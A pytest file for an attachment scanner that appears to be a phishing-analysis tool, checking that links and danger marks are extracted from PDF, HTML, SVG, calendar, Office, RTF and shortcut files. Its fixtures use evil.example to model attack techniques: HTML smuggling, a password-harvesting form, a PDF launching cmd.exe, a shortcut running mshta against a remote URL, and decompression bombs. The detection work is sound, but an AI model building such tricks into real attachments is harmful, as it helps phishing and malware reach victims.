"""Links and marks in attached documents, each a small file made here."""

from __future__ import annotations

import base64
import re
import time
import zlib
from pathlib import Path

import pytest

from phishlab import wording
from phishlab.mail import attachments, documents, signatures
from phishlab.mail.limits import STANDARD, Allowance
from phishlab.records import Limit
from tests.mail.test_archives import zipped


def read(data: bytes, name: str = "x", media_type: str = "") -> tuple[attachments.Found, list[str]]:
    limits: list[Limit] = []
    found = attachments.Found()
    attachments.read(
        attachments.File(name=name, media_type=media_type, data=data), Allowance(STANDARD, limits), found
    )
    return found, [limit.what for limit in limits if limit.what != "pdf-unreadable"]


def urls(found: attachments.Found) -> list[tuple[str, str]]:
    return [(link.where, link.url) for link in found.links]


LINK = b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://evil.example/a\\(1\\)) >> >>"


@pytest.mark.parametrize(
    ("body", "url"),
    [
        (LINK, "https://evil.example/a(1)"),
        (b"/URI <68747470733A2F2F6576696C2E6578616D706C652F68>", "https://evil.example/h"),
        (b"/#55RI (https://evil.example/named)", "https://evil.example/named"),
        (
            b"/URI (\xfe\xff" + "https://evil.example/wide".encode("utf-16-be") + b")",
            "https://evil.example/wide",
        ),
        (b"/URI (https://evil.example/\\157ctal)", "https://evil.example/octal"),
        (b"/URI (www.evil.example/bare)", "http://www.evil.example/bare"),
    ],
)
def test_a_link_of_a_pdf_is_found_however_it_is_written(body: bytes, url: str) -> None:
    found, _ = read(b"%PDF-1.7\n1 0 obj\n" + body + b"\nendobj\n", "x.pdf")
    assert urls(found) == [("attachment-pdf", url)]
    assert found.links[0].inside == "x.pdf"


def test_a_link_in_a_packed_object_stream_is_found() -> None:
    packed = zlib.compress(b"7 0 " + LINK)
    data = (
        b"%PDF-1.7\n5 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n"
        + packed
        + b"\nendstream\nendobj\n"
    )
    assert urls(read(data)[0]) == [("attachment-pdf", "https://evil.example/a(1)")]


@pytest.mark.parametrize(
    ("body", "mark"),
    [
        (b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", "pdf-javascript"),
        (b"/S /#4aavaScript", "pdf-javascript"),
        (b"/OpenAction 5 0 R", "pdf-open-action"),
        (b"/S /Launch /F (cmd.exe)", "pdf-launch"),
        (b"/Names << /EmbeddedFiles 3 0 R >>", "pdf-embedded-file"),
        (b"/S /SubmitForm", "pdf-submit-form"),
    ],
)
def test_what_a_pdf_would_do_is_marked(body: bytes, mark: str) -> None:
    assert mark in read(b"%PDF-1.7\n1 0 obj <<" + body + b">> endobj")[0].files[0].marks


def test_an_encrypted_pdf_is_said_to_be_unread() -> None:
    found, limits = read(b"%PDF-1.7\n" + LINK + b"\ntrailer << /Encrypt 9 0 R >>")
    assert (urls(found), limits) == ([], ["pdf-encrypted"])
    assert "encrypted" in found.files[0].marks


def test_a_packed_stream_that_grows_without_end_is_cut() -> None:
    packed = zlib.compress(bytes(300_000_000))
    data = b"%PDF-1.7\n" + (b"5 0 obj <<>>\nstream\n" + packed + b"\nendstream\n") * 20
    start = time.perf_counter()
    read(data)
    assert time.perf_counter() - start < 10


HIDDEN = base64.b64encode(b"<a href='https://evil.example/hidden'>x</a>").decode()
PAGE = f"""<html><body><form action="https://evil.example/take"><input type=password name=p></form>
<a href="https://evil.example/shown">here</a>
<script>var b = new Blob([atob("{HIDDEN}")]); a.href = URL.createObjectURL(b); a.download = "x.iso";
location = "https://evil.example/script"; document.write(unescape("%3Ca href=https://evil.example/percent%3E"));
</script></body></html>"""


def test_an_attached_page_gives_its_links_and_what_its_script_hides() -> None:
    found, _ = read(PAGE.encode(), "secure.html", "text/html")
    assert set(urls(found)) >= {
        ("attachment-html-form", "https://evil.example/take"),
        ("attachment-html-a", "https://evil.example/shown"),
        ("attachment-script", "https://evil.example/script"),
        ("attachment-unpacked", "https://evil.example/hidden"),
        ("attachment-unpacked", "https://evil.example/percent"),
    }
    assert set(found.files[0].marks) == {
        "smuggling-atob",
        "smuggling-blob",
        "smuggling-object-url",
        "smuggling-download",
        "script-hidden",
        "script",
        "password-field",
    }


def test_an_honest_page_has_no_mark() -> None:
    found, _ = read(b"<html><body><a href='https://good.example/'>x</a></body></html>", "x.html")
    assert found.files[0].marks == ()


def test_a_picture_in_svg_with_script_and_link_is_a_page() -> None:
    data = (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="x()">'
        b'<a xlink:href="https://evil.example/svg"><text>x</text></a></svg>'
    )
    found, _ = read(data, "x.svg")
    assert found.files[0].sniffed_type == "image/svg+xml"
    assert ("attachment-html-a", "https://evil.example/svg") in urls(found)
    assert found.files[0].marks == ("script",)


def test_a_calendar_entry_is_unfolded_before_it_is_read() -> None:
    data = (
        b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nURL:https://evil.example/cal\r\n endar\r\n"
        b'X-ALT-DESC;FMTTYPE=text/html:<a href="https://evil.example/alt">x</a>\r\n'
        b"DESCRIPTION:see\\nhttps://evil.example/text\\, now\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
    )
    found = {url for _, url in urls(read(data, "invite.ics")[0])}
    assert {"https://evil.example/calendar", "https://evil.example/alt", "https://evil.example/text"} <= found


RELS = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="r1" Type="http://x/relationships/hyperlink" Target="https://evil.example/?a=1&amp;b=2" '
    b'TargetMode="External"/><Relationship Id="r2" Type="http://x/relationships/styles" Target="styles.xml"/>'
    b"</Relationships>"
)


def _office(*more: tuple[str, bytes]) -> bytes:
    return zipped(("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<w:document/>"), *more)


def test_an_office_file_gives_its_outside_targets_and_not_its_vocabularies() -> None:
    found, _ = read(_office(("word/_rels/document.xml.rels", RELS)), "x.docx")
    assert urls(found) == [("attachment-office", "https://evil.example/?a=1&b=2")]
    assert [file.name for file in found.files] == ["x.docx"]
    assert found.files[0].sniffed_type == signatures.WORD


def test_a_template_from_elsewhere_and_macros_are_marked() -> None:
    rels = RELS.replace(b"hyperlink", b"attachedTemplate")
    found, _ = read(_office(("word/_rels/settings.xml.rels", rels), ("word/vbaProject.bin", b"x")), "x.docm")
    assert set(found.files[0].marks) == {"remote-template", "macros"}


def test_a_field_of_a_document_is_a_link() -> None:
    field = b"<w:instrText>HYPERLINK &quot;https://evil.example/field&quot;</w:instrText>"
    found, _ = read(_office(("word/footer1.xml", field)), "x.docx")
    assert urls(found) == [("attachment-office", "https://evil.example/field")]


def test_an_old_office_file_with_macros_is_marked() -> None:
    data = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500) + "_VBA_PROJECT_CUR".encode("utf-16-le") + bytes(100)
    )
    data += b"x http://schemas.microsoft.com/office https://evil.example/ole\0"
    found, _ = read(data, "x.doc")
    assert found.files[0].marks == ("macros",)
    assert urls(found) == [("attachment-strings", "https://evil.example/ole")]


def test_rich_text_gives_its_fields_and_objects() -> None:
    data = rb'{\rtf1 {\field{\*\fldinst HYPERLINK "https://evil.example/rtf"}}{\object{\*\objdata 0105}}}'
    found, _ = read(data, "x.rtf")
    assert urls(found) == [("attachment-office", "https://evil.example/rtf")]
    assert found.files[0].marks == ("embedded-object",)


def test_shortcuts_are_run_and_lead_somewhere() -> None:
    internet, _ = read(b"[InternetShortcut]\r\nURL=https://evil.example/short\r\n", "invoice.pdf.url")
    assert urls(internet) == [("attachment-text", "https://evil.example/short")]
    assert "runs" in internet.files[0].marks
    windows = (
        b"L\0\0\0\x01\x14\x02\0" + bytes(60) + "mshta https://evil.example/lnk".encode("utf-16-le") + b"\0\0"
    )
    shell, _ = read(windows, "invoice.lnk")
    assert urls(shell) == [("attachment-strings", "https://evil.example/lnk")]
    assert "runs" in shell.files[0].marks


@pytest.mark.parametrize(
    ("kind", "data"),
    [
        ("x-virtualbox-vhd", b"conectix"),
        ("x-udf-image", bytes(0x8001) + b"BEA01"),
        ("x-fat-image", bytes(54) + b"FAT16   "),
    ],
)
def test_an_archive_that_is_not_opened_is_said(kind: str, data: bytes) -> None:
    found, limits = read(data, "x.bin")
    assert (found.files[0].sniffed_type, limits) == (f"application/{kind}", ["archive-unread"])


HOSTILE = {
    "uri": b"%PDF-1.7" + b"/URI (" * 200_000,
    "stream": b"%PDF-1.7" + b"stream\n" * 150_000,
    "hash": b"%PDF-1.7" + b"#4a" * 400_000,
    "hex": b"%PDF-1.7/URI <" + b"4a" * 500_000,
    "open": b"<html>" + b"<" * 1_000_000,
    "quotes": b"<html><script>" + b'"//a' * 250_000,
    "atob": b"<html>" + b"atob('A" * 140_000,
    "input": b"<html>" + b"<input " * 140_000,
    "rels": b"PK",
    "fields": b"{\\rtf1 " + b'HYPERLINK "' * 90_000,
    "calendar": b"BEGIN:VCALENDAR\r\n" + b"\r\n " * 300_000,
    "strings": b"L\0\0\0\x01\x14\x02\0" + b"://" * 330_000,
    "comment": b"<!--" * 250_000,
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_megabyte_of_hostile_document_is_read_in_a_second(kind: str) -> None:
    start = time.process_time()
    if kind == "rels":
        documents.member("x.rels", b"<Relationship " * 70_000, signatures.WORD)
    else:
        read(HOSTILE[kind], "x.html" if HOSTILE[kind].startswith(b"<") else "x")
    assert time.process_time() - start < 1.5


def test_each_mark_and_place_that_the_code_names_is_worded() -> None:
    folder = Path(documents.__file__).parent
    source = "\n".join(
        (folder / f"{name}.py").read_text(encoding="utf-8") for name in ("documents", "pdf", "attachments")
    )
    places = set(re.findall(r'"((?:attachment|qr)-[a-z-]+[a-z])"', source)) - {
        "attachment-links",
        "qr-not-installed",
    }
    assert len(places) > 8
    assert {place for place in places if not wording.known("en", f"where.{place}")} == set()
    followed = {f"attachment-{place}" for place in documents._FOLLOWED} | {
        "attachment-html-loads",
        "attachment-html-text",
    }
    assert {place for place in followed if not wording.known("ja", f"where.{place}")} == set()
    marks = set(re.findall(r'"((?:pdf|smuggling|script|remote|name|password)-[a-z-]+)"', source + _names())) - {
        "pdf-encrypted", "pdf-unreadable",
    }  # fmt: skip
    assert len(marks) > 15
    assert {mark for mark in marks if not wording.known("ja", f"mark.{mark}")} == set()


def test_each_limit_that_the_code_names_is_worded() -> None:
    folder = Path(documents.__file__).parent
    source = "\n".join(path.read_text(encoding="utf-8") for path in folder.glob("*.py"))
    named = set(re.findall(r'(?:what=|\.say\(\s*|fault=|fault = )"([a-z-]+)"', source))
    assert len(named) > 30
    assert {limit for limit in named if not wording.known("ja", f"limit.{limit}")} == set()


def _names() -> str:
    return (Path(documents.__file__).parent / "filenames.py").read_text(encoding="utf-8")
